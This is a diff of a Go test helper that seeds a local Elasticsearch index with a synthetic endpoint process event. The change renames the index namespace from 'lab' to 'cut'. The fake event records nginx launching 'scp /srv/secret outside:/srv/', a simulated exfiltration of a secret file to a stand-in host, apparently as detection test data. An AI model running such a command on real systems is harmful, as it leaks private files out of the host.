@@ -57,13 +57,13 @@ func watched(t *testing.T) (*stage, *terminal) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	more := "\n[elasticsearch.lab]\nurls = [\"http://127.0.0.1:9200\"]\nevents = \"logs-endpoint.events.*-lab\"\n"
+	more := "\n[elasticsearch.lab]\nurls = [\"http://127.0.0.1:9200\"]\nevents = \"logs-endpoint.events.*-cut\"\n"
 	if err := os.WriteFile(s.Config(), append(config, more...), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	const index = "logs-endpoint.events.process-lab"
+	const index = "logs-endpoint.events.process-cut"
 	mapping := `{"mappings":{"dynamic_templates":[{"strings":{"match_mapping_type":"string","mapping":{"type":"keyword"}}}],"properties":{"@timestamp":{"type":"date"},"host":{"properties":{"ip":{"type":"ip"}}}}}}`
-	event := fmt.Sprintf(`{"@timestamp":%q,"agent":{"id":"lab"},"host":{"id":%q,"boot":{"id":%q},"name":"web-1","ip":["%s"],"os":{"type":"linux"}},"event":{"id":"e1","kind":"event","category":["process"],"type":["start"],"action":"exec","dataset":"endpoint.events.process"},"data_stream":{"dataset":"endpoint.events.process","namespace":"lab"},"process":{"pid":77,"entity_id":"p77","name":"scp","executable":"/usr/bin/scp","command_line":"scp /srv/secret outside:/srv/","args":["scp","/srv/secret","outside:/srv/"],"parent":{"pid":70,"entity_id":"p70","name":"nginx","executable":"/usr/sbin/nginx"}}}`,
+	event := fmt.Sprintf(`{"@timestamp":%q,"agent":{"id":"lab"},"host":{"id":%q,"boot":{"id":%q},"name":"web-1","ip":["%s"],"os":{"type":"linux"}},"event":{"id":"e1","kind":"event","category":["process"],"type":["start"],"action":"exec","dataset":"endpoint.events.process"},"data_stream":{"dataset":"endpoint.events.process","namespace":"cut"},"process":{"pid":77,"entity_id":"p77","name":"scp","executable":"/usr/bin/scp","command_line":"scp /srv/secret outside:/srv/","args":["scp","/srv/secret","outside:/srv/"],"parent":{"pid":70,"entity_id":"p70","name":"nginx","executable":"/usr/sbin/nginx"}}}`,
 		time.Now().UTC().Format(time.RFC3339Nano), strings.TrimSpace(on(t, h, "cat /etc/machine-id")), strings.TrimSpace(on(t, h, "cat /proc/sys/kernel/random/boot_id")), h.V4)
 	if err := node.Index(index, mapping, []string{event}); err != nil {
 		t.Fatal(err)
